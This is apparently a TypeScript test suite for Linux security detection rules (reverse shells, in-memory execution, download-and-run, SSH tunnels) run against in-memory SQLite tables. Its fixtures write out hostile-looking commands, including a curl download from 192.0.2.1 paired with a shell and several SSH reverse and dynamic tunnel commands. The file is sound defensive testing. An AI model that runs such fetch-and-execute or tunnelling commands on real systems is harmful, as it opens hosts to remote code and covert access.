import sqlite3InitModule from '@sqlite.org/sqlite-wasm';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { CORE_FUNCTIONS } from '../../src/core/sql/functions.ts';
import { statementOf } from '../../tables/detections/detection.ts';
import { detections, watchedPaths } from '../../tables/detections/index.ts';
import { eventTablesOn } from '../../tables/index.ts';
import { processTelemetryEvents } from '../../tables/process_telemetry_events.ts';

type Sqlite = Awaited<ReturnType<typeof sqlite3InitModule>>;
type Row = Readonly<Record<string, string | number | null>>;
const specs = [...eventTablesOn('linux').map(({ spec }) => spec), processTelemetryEvents.spec];

let database: InstanceType<Sqlite['oo1']['DB']>;
beforeAll(async () => {
  const sqlite = await sqlite3InitModule();
  database = new sqlite.oo1.DB(':memory:');
  for (const { name, arity, call } of CORE_FUNCTIONS)
    database.createFunction(name, (_context, ...values) => call(...(values as never[])), { arity });
  for (const { name, columns } of specs)
    database.exec(`CREATE TABLE ${name} (${columns.map(each => `${each.name} ${each.type}`).join(', ')})`);
});
beforeEach(() => {
  for (const { name } of specs) database.exec(`DELETE FROM ${name}`);
});
afterAll(() => database.close());

const insert = (table: string, row: Row): void => {
  const names = Object.keys(row);
  database.exec({
    sql: `INSERT INTO ${table} (${names.join(', ')}) VALUES (${names.map(() => '?').join(', ')})`,
    bind: Object.values(row),
  });
};
const find = (name: string): readonly unknown[] =>
  database.selectObjects(statementOf(detections.find(each => each.name === name)!.query));

describe.each(detections)(
  '$name',
  ({ name, attack, interval, description, falsePositives, exclude, query }) => {
    test('says what it is, what else it can be, and how to exclude that', () => {
      expect(name).toMatch(/^[a-z]+(?:_[a-z]+)*$/);
      for (const technique of attack) expect(technique).toMatch(/^T\d{4}(?:\.\d{3})?$/);
      expect(attack.length).toBeGreaterThan(0);
      expect(interval % 60).toBe(0);
      for (const text of [description, falsePositives]) expect(text).toMatch(/^\S.*\.$/s);
      expect(exclude).toMatch(/^AND /);
    });

    test('is SQL over our tables, and so it is with its exclusion, on one line and on many', () => {
      for (const options of [
        {},
        { added: exclude },
        { separator: '\n' },
        { added: exclude, separator: '\n' },
      ])
        expect(() => database.selectArrays(statementOf(query, options))).not.toThrow();
    });

    test('tells when, who, and which login', () => {
      const columns = database.selectObjects(
        `SELECT * FROM (SELECT 1) LEFT JOIN (${statementOf(query).slice(0, -1)})`,
      );
      expect(Object.keys(columns[0]!)).toEqual(expect.arrayContaining(['time', 'pid', 'auid']));
    });
  },
);

test('names, descriptions and conditions are all different', () => {
  for (const of of [
    ({ name }: (typeof detections)[number]) => name,
    ({ description }: (typeof detections)[number]) => description,
    ({ query }: (typeof detections)[number]) => statementOf(query),
  ])
    expect(new Set(detections.map(of)).size).toBe(detections.length);
});

const exec = (row: Row, eid = '1') => ({
  eid,
  time: 100,
  process_pid: 10,
  parent_process_pid: 5,
  parent_process_name: 'bash',
  parent_process_path: '/usr/bin/bash',
  ...row,
});

describe('who is known by a name that he can choose', () => {
  test.each([
    ['/usr/bin/dpkg', 0],
    ['/home/mallory/dpkg', 1],
    // A change through io_uring has no program: NULL here, an empty text in osqueryd.
    [null, 1],
    ['', 1],
  ])('a file that %s changes', (executable, rows) => {
    insert('process_file_events', {
      category: 'scheduled',
      operation: 'write',
      path: '/etc/cron.d/x',
      executable,
    });
    expect(find('scheduled_job_changed')).toHaveLength(rows);
  });

  test.each([
    ['/usr/sbin/runc', 0],
    ['/home/mallory/runc', 1],
    [null, 1],
  ])('a program in memory that %s started under the name of runc', (parent, rows) => {
    insert(
      'process_telemetry_events',
      exec({
        process_path: '/memfd:runc_cloned:/proc/self/exe (deleted)',
        parent_process_path: parent,
        user_uid: 1000,
      }),
    );
    expect(find('memory_execution')).toHaveLength(rows);
  });

  test.each([
    ['/usr/sbin/sshd', 0],
    ['/tmp/sshd', 1],
  ])('a shell below %s, which had connected', (path, rows) => {
    insert('process_telemetry_events', exec({ process_name: 'bash', process_command_line: '-bash' }));
    insert('socket_events', { pid: 5, path, action: 'connect', remote_port: 389, time: 99 });
    expect(find('reverse_shell')).toHaveLength(rows);
  });
});

describe('of what is compared with what was before', () => {
  test.each(['', null])('a hash that is not known (%j) is equal to none', hash => {
    insert(
      'process_telemetry_events',
      exec({ process_sha256: hash, process_name: 'a', process_path: '/home/a' }),
    );
    insert(
      'process_telemetry_events',
      exec({ process_sha256: hash, process_name: 'b', process_path: '/usr/bin/b' }, '0'),
    );
    expect(find('renamed_tool')).toHaveLength(0);
  });

  test('the first login from an address is reported, and no other', () => {
    for (const [eid, address] of ['192.0.2.1', '192.0.2.1', '192.0.2.2'].entries())
      insert('user_events', {
        ...{ eid: String(eid), type: 1105, path: '/usr/sbin/sshd', res: 'success' },
        ...{ address, acct: 'ann', time: 100 },
      });
    expect(find('ssh_login_new_address')).toMatchObject([{ address: '192.0.2.1' }, { address: '192.0.2.2' }]);
  });

  test.each([
    ['curl -s http://192.0.2.1/x', 'sh', 1],
    ['curl -s http://192.0.2.1/x', 'sh -s -- --yes', 1],
    ['curl -s http://192.0.2.1/x', 'sh install.sh', 0],
    ['curl -s http://192.0.2.1/x', 'sh -c true', 0],
  ])('%s beside %s, whichever comes first', (download, shell, rows) => {
    const both = [
      { process_name: 'curl', process_command_line: download },
      { process_name: 'dash', process_command_line: shell },
    ];
    for (const order of [both, both.toReversed()]) {
      database.exec('DELETE FROM process_telemetry_events');
      for (const [eid, row] of order.entries()) insert('process_telemetry_events', exec(row, String(eid)));
      expect(find('download_and_run')).toHaveLength(rows);
    }
  });
});

describe('ssh', () => {
  test.each([
    ['ssh -N -R 8080:127.0.0.1:80 host', 1],
    ['ssh -fNL 8080:db:5432 host', 1],
    ['ssh -D 1080 host', 1],
    ['ssh -o StrictHostKeyChecking=no -i key host ls -R /srv', 0],
    ['ssh -F none -p 2222 host', 0],
    ['ssh host df -h', 0],
  ])('%s', (process_command_line, rows) => {
    insert('process_telemetry_events', exec({ process_name: 'ssh', process_command_line }));
    expect(find('tunnel')).toHaveLength(rows);
  });
});

test('each category that is watched is asked for by one detection', () => {
  const asked = detections.flatMap(({ query }) =>
    query.where.flatMap(condition => /^f\.category = '([a-z_]+)'$/.exec(condition)?.[1] ?? []),
  );
  expect(asked.sort()).toEqual(Object.keys(watchedPaths).sort());
});
